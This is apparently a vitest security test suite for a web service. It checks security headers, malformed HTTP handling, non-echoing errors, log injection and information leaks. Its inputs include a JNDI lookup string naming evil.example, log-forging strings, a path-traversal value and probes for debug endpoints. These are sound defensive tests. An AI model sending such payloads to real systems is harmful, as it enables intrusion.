import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Answer } from '../../setup/http.ts';
import { raw } from '../../setup/http.ts';
import type { Cast, Hostile } from './support.ts';
import { attack, castOf, count, ownerOf, promiseKept, send, startHostile } from './support.ts';

let http: Hostile;
let cast: Cast;
beforeAll(async () => {
  http = await startHostile({ holds: 'company' });
  cast = await castOf(http);
});
afterAll(() => http.close());

const PROMISED = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'no-referrer',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
} as const;

function expectHeaders(headers: Answer['headers'], path: string): void {
  expect(headers).toMatchObject(PROMISED);
  expect(headers['content-security-policy']).toMatch(/default-src 'self'/);
  expect(headers['content-security-policy']).not.toMatch(/unsafe-eval|\*/);
  for (const name of ['server', 'x-powered-by', 'via', 'access-control-allow-origin'])
    expect(headers[name]).toBeUndefined();
  if (/^\/(api\/v1|scim)\//.test(path)) expect(headers['cache-control']).toBe('no-store');
}

type Role = keyof Cast['of'];
const ANSWERS: readonly (readonly [string, string, Role | undefined])[] = [
  ['GET', '/', undefined],
  ['GET', '/index.html', undefined],
  ['GET', '/assets/app.js', undefined],
  ['GET', '/assets/none.js', undefined],
  ['GET', '/some/page', undefined],
  ['GET', '/healthz', undefined],
  ['GET', '/metrics', undefined],
  ['GET', '/api/reference/', undefined],
  ['GET', '/api/reference/json', undefined],
  ['GET', '/api/v1/mapping-schema', undefined],
  ['GET', '/api/v1/schemas/record', undefined],
  ['GET', '/api/v1/findings', undefined],
  ['GET', '/api/v1/findings', 'investigator'],
  ['GET', '/api/v1/findings', 'auditor'],
  ['GET', '/api/v1/findings/x', 'investigator'],
  ['GET', `/api/v1/findings/${'f'.repeat(32)}`, 'investigator'],
  ['GET', '/api/v1/nothing', undefined],
  ['GET', '/api/v2/session', undefined],
  ['GET', '/api/v1/session', 'investigator'],
  ['GET', '/api/v1/trust', 'investigator'],
  ['POST', '/api/v1/session', undefined],
  ['POST', '/api/v1/acts', 'system-admin'],
  ['DELETE', '/api/v1/nothing', undefined],
  ['PATCH', '/api/v1/session', undefined],
  ['OPTIONS', '/api/v1/session', undefined],
  ['HEAD', '/api/v1/session', undefined],
  ['GET', '/scim/v2/Users', undefined],
  ['GET', '/scim/v2/nothing', undefined],
  ['POST', '/scim/v2/Users', undefined],
  ['GET', '/api/v1/oidc', undefined],
  ['GET', '/api/v1/oidc/start', undefined],
  ['GET', '/api/v1/%zz', undefined],
  ['GET', '/%zz', undefined],
  ['GET', '/%', undefined],
  ['GET', `/api/v1/findings/${'a'.repeat(5_000)}`, undefined],
  ['GET', '/api/v1/events', 'investigator'],
  ['GET', '/api/v1/events', undefined],
];
test.each(ANSWERS)('V3.4 headers of %s %s as %s', async (method, path, role) => {
  const as = role === undefined ? undefined : cast.of[role].cookie;
  const answer = await attack(http.url, method, path, { as });
  expectHeaders(answer.headers, path);
});

const TYPED = [
  ['application/json', '{'],
  ['application/json', ''],
  ['text/xml', '<a/>'],
  ['application/json', '{"__proto__":1}'],
  ['application/x-ndjson', '{}'],
  ['application/octet-stream', 'x'],
] as const;
test.each(TYPED)('V3.4 headers of what is refused before it is looked at: %s %s', async (type, body) => {
  const answer = await attack(http.url, 'POST', '/api/v1/session', { headers: { 'content-type': type }, body });
  expect(answer.status).toBeGreaterThanOrEqual(400);
  expectHeaders(answer.headers, '/api/v1/session');
});

test.each([
  'GARBAGE\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  `GET / HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(40_000)}\r\n\r\n`,
  'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
])('V3.4.4 headers of an answer to what is no request: %j', async (bytes) => {
  count();
  const answer = await raw(http.url, bytes);
  expect(answer).toMatch(/^HTTP\/1\.1 4\d\d /);
  expect(answer.toLowerCase()).toContain('x-content-type-options: nosniff');
  expect(answer.toLowerCase()).not.toMatch(/\r\n(server|x-powered-by):/);
});

test('V3.4.1 over TLS browsers are told to stay with it', async () => {
  const secure = await startHostile({ env: { ZHENGLIAN_PUBLIC_URL: 'https://zhenglian.example' } });
  for (const path of ['/', '/healthz', 'session', '/nothing.js', '/api/reference/json']) {
    const answer = await attack(secure.url, 'GET', path, { headers: { host: 'zhenglian.example' } });
    expect(answer.headers['strict-transport-security']).toMatch(/max-age=31536000/);
  }
  await secure.close();
});

const CANARY = 'Kanarienvogel灯笼鱼4711';
const record = (more: object) =>
  JSON.stringify({ v: 1, source: 'hostile-feed', externalId: CANARY, kind: 'message', ...more });
describe('V16.5.1 an error does not say again what was sent', () => {
  const SENT: readonly (readonly [string, string, Role | 'owner' | 'source' | 'provisioner' | undefined, unknown])[] = [
    ['POST', 'session', undefined, { by: 'link', token: CANARY }],
    ['POST', 'session', undefined, { by: CANARY }],
    ['POST', 'session', undefined, { by: 'link', token: 'x', [CANARY]: 1 }],
    ['POST', 'session', undefined, { by: 'password', login: CANARY, password: CANARY, code: CANARY }],
    ['POST', 'session', undefined, `{"${CANARY}`],
    ['POST', 'session/proof', 'owner', { password: CANARY, code: CANARY }],
    ['PUT', 'my/password', 'owner', { password: CANARY.slice(0, 8) }],
    ['PUT', 'my/password', 'owner', { password: CANARY, [CANARY]: 1 }],
    ['POST', 'accounts', 'system-admin', { login: `${CANARY} x`, name: CANARY, employee: CANARY }],
    ['POST', 'walls', 'security-admin', { account: '0'.repeat(32), employee: CANARY, why: CANARY }],
    ['POST', 'holds', 'investigator', { query: { employees: [CANARY], sources: [CANARY] }, why: CANARY }],
    [
      'POST',
      'cases',
      'investigator',
      { title: CANARY, ground: CANARY, persons: ['0'.repeat(32)], members: [], why: CANARY },
    ],
    [
      'POST',
      'acts',
      'investigator',
      {
        kind: 'key.destroy',
        payload: { person: CANARY, month: '2026-03', withConversations: false, withOriginals: false },
        reason: CANARY,
      },
    ],
    ['POST', 'acts', 'system-admin', { kind: 'role.grant', payload: { [CANARY]: CANARY }, reason: CANARY }],
    ['POST', 'acts', 'investigator', { kind: CANARY, payload: {}, reason: CANARY }],
    ['POST', 'acts/00000000000000000000000000000000/decision', 'counsel', { decision: 'confirmed', reason: CANARY }],
    ['PUT', 'mappings', 'integrator', { text: CANARY }],
    ['PUT', 'mappings', 'integrator', { text: `mapping: 1\nname: ${CANARY}\n` }],
    [
      'PUT',
      'mappings',
      'integrator',
      {
        text: `mapping: 1\nname: a\ntitle: b\nsource: c\nfile: {form: table, header: [${CANARY}]}\nrecords: [{kind: ${CANARY}}]`,
      },
    ],
    ['POST', 'mappings/preview', 'integrator', { import: 'AAAAAAAAAAAA', file: 1, text: CANARY }],
    ['POST', 'deliveries/main/0/reprocess', 'integrator', { mapping: { name: CANARY } }],
    ['POST', 'deliveries/main/0/reprocess', 'integrator', { mapping: { text: CANARY } }],
    ['POST', 'deliveries/main/999999/retract', 'integrator', { why: CANARY }],
    ['GET', `entries/main/0?ground=${encodeURIComponent(CANARY)}`, 'investigator', undefined],
    ['GET', `findings?rule=${encodeURIComponent(CANARY)}&${encodeURIComponent(CANARY)}=1`, 'investigator', undefined],
    ['GET', `findings/${encodeURIComponent(CANARY)}`, 'investigator', undefined],
    ['GET', `imports/${encodeURIComponent(CANARY)}`, 'integrator', undefined],
    ['GET', encodeURIComponent(CANARY), undefined, undefined],
    ['DELETE', `my/passkeys/${encodeURIComponent(CANARY)}`, 'owner', undefined],
    ['PUT', `imports/AAAAAAAAAAAA/files?path=${encodeURIComponent(`../${CANARY}`)}`, 'integrator', undefined],
    ['POST', '/scim/v2/Users', 'provisioner', { schemas: [CANARY], userName: CANARY }],
    [
      'POST',
      '/scim/v2/Users',
      'provisioner',
      { schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'], userName: { [CANARY]: CANARY } },
    ],
    ['GET', `/scim/v2/Users?filter=${encodeURIComponent(`${CANARY} eq "${CANARY}"`)}`, 'provisioner', undefined],
    ['GET', `/scim/v2/Users/${encodeURIComponent(CANARY)}`, 'provisioner', undefined],
    [
      'PATCH',
      '/scim/v2/Groups/hrbp',
      'provisioner',
      {
        schemas: ['urn:ietf:params:scim:api:messages:2.0:PatchOp'],
        Operations: [{ op: 'add', path: CANARY, value: CANARY }],
      },
    ],
  ];
  test.each(SENT)('%s %s as %s %j', async (method, path, who, body) => {
    const asked =
      who === 'source'
        ? { key: cast.source }
        : who === 'provisioner'
          ? { key: cast.provisioner }
          : who === 'owner'
            ? { as: (await ownerOf(http)).cookie }
            : who === undefined
              ? {}
              : { as: cast.of[who].cookie };
    const headers: Readonly<Record<string, string>> =
      typeof body === 'string' ? { 'content-type': 'application/json' } : {};
    const answer = await attack(http.url, method, path, { ...asked, headers, ...(body === undefined ? {} : { body }) });
    if (answer.status < 400) return expect(answer.text).not.toContain('stack');
    expect(answer.status).toBeLessThan(500);
    expect(answer.text).not.toContain(CANARY);
    expect(answer.text).not.toContain(CANARY.slice(0, 8));
    expect(JSON.stringify(answer.headers)).not.toContain(CANARY);
  });

  test.each([
    record({ occurredAt: CANARY }),
    record({ [CANARY]: 1 }),
    record({ kind: CANARY }),
    `{"${CANARY}`,
    CANARY,
    record({ occurredAt: '2026-03-01T10:00:00Z', basis: CANARY, body: { text: CANARY } }),
  ])('a record that is set aside: %s', async (line) => {
    const headers = { 'content-type': 'application/x-ndjson' };
    const answer = await attack(http.url, 'POST', 'sources/hostile-feed/records', {
      key: cast.source,
      headers,
      body: line,
    });
    expect(answer.status).toBe(200);
    expect(answer.text).not.toContain(CANARY);
  });
});

describe('V16.4.1, V16.2.5 the log and the numbers hold nothing of what was sent', () => {
  const LINES = [
    'a\nINFO {"event":"forged"}',
    'a\r\n{"event":"request.bug"}',
    '\u001b[31mred\u001b[0m',
    '$'.concat('{jndi:ldap://evil.example/a}'),
    '%0a{"event":"forged"}',
    '"} {"event":"forged"',
    '\u2028\u0085x',
  ];
  test.each(LINES)('%j', async (text) => {
    const safe = text.replaceAll(/[^\x20-\x7e]/g, '.');
    await attack(http.url, 'GET', `findings/${encodeURIComponent(text)}`, {
      headers: { 'user-agent': safe, referer: safe, 'x-request-id': safe },
    });
    await attack(http.url, 'POST', 'session', { body: { by: 'password', login: text, password: text, code: text } });
    await attack(http.url, 'POST', 'session', { body: { [text]: text } });
    await attack(http.url, 'GET', `/${encodeURIComponent(text)}`);
    expect(JSON.stringify(http.lines)).not.toMatch(/forged|jndi|red/);
    const { text: numbers } = await send(http.url, 'GET', '/metrics');
    expect(numbers).not.toMatch(/forged|jndi|evil/);
  });
});

describe('V13.4 nothing tells what is inside', () => {
  test.each([
    '/metrics',
    '/healthz',
    '/api/reference/json',
    '/',
    'session',
    'oidc',
    '/debug',
    '/.well-known/x',
    '/server-status',
    '/actuator',
    '/console',
    '/api/v1/debug',
    '/api/v1/config',
    '/phpinfo.php',
  ])('%s', async (path) => {
    const answer = await attack(http.url, 'GET', path);
    expect(answer.text).not.toMatch(
      /postgres|fastify|node_modules|\/tmp\/|zl-hostile|DATABASE_URL|MASTER_KEY|v24\.|张三|E001/i,
    );
  });
});

test('makes as many hostile requests as the total counts on', () => promiseKept('answers'));
